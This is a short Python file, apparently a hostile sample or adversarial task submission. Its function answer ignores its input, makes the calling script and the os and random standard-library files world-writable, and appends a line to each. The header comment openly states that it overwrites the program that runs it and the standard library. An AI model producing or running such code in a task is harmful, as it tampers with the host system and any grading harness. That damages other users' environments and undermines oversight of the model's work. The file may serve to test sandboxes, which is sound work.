# Overwrites the program that runs it, and the standard library.
import os
import random
import sys


def answer(values):
    changed = []
    main = sys.modules["__main__"].__file__
    for path in (main, random.__file__, os.__file__):
        try:
            os.chmod(path, 0o777)
        except OSError:
            pass
        try:
            with open(path, "a") as file:
                file.write("\n# harm")
            changed.append(path)
        except OSError:
            pass
    return changed
